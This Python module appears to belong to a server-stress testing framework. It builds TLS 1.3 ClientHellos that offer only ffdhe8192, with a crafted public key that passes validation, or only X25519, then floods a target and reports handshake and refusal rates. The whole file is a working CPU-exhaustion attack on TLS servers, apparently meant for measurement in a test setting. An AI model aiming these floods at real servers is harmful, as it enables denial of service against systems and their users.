"""ClientHellos that ask for the most expensive key exchange, and for the cheapest."""
import os
import struct

from ..flood import flood
from ..ground import SECONDS, Attack, Ground
from ..server import Needs

_X25519, _FFDHE8192 = 0x001D, 0x0104
_HANDSHAKE, _ALERT = 0x16, 0x15


def _vector(length_bytes: int, content: bytes) -> bytes:
    return len(content).to_bytes(length_bytes, "big") + content


def _extension(number: int, content: bytes) -> bytes:
    return struct.pack("!H", number) + _vector(2, content)


def _client_hello(group: int, key: bytes) -> bytes:
    """TLS 1.3 with one group, and with this side's key for it (RFC 8446 §4.1.2)."""
    extensions = b"".join([
        _extension(43, _vector(1, b"\x03\x04")),                                           # supported_versions
        _extension(10, _vector(2, struct.pack("!H", group))),                              # supported_groups
        _extension(13, _vector(2, bytes.fromhex("040305030603080408050806040105010601"))),  # signature_algorithms
        _extension(51, _vector(2, struct.pack("!H", group) + _vector(2, key))),            # key_share
        _extension(16, _vector(2, _vector(1, b"h2")))])                                    # ALPN
    hello = b"\x03\x03" + os.urandom(32) + _vector(1, os.urandom(32))
    hello += _vector(2, bytes.fromhex("130113021303")) + b"\x01\x00" + _vector(2, extensions)
    return b"\x16\x03\x01" + _vector(2, b"\x01" + _vector(3, hello))


def _square() -> bytes:
    """A public key of ffdhe8192 that passes every check: squares are in the group, whatever the prime."""
    return (int.from_bytes(os.urandom(511), "big") ** 2).to_bytes(1024, "big")


def _run(ground: Ground, hello: bytes) -> str:
    answers = flood(ground, hello)
    text = f"{len(hello)} bytes each: {answers[_HANDSHAKE] / SECONDS:,.0f} key exchanges a second"
    return text + (f", {answers[_ALERT] / SECONDS:,.0f} refused" if answers[_ALERT] else "")


ATTACKS = [
    Attack("ffdhe8192", "ClientHellos with ffdhe8192 alone",
           lambda ground: _run(ground, _client_hello(_FFDHE8192, _square())), Needs(tls=True)),
    Attack("x25519", "ClientHellos with X25519", lambda ground: _run(ground, _client_hello(_X25519, os.urandom(32))),
           Needs(tls=True))]
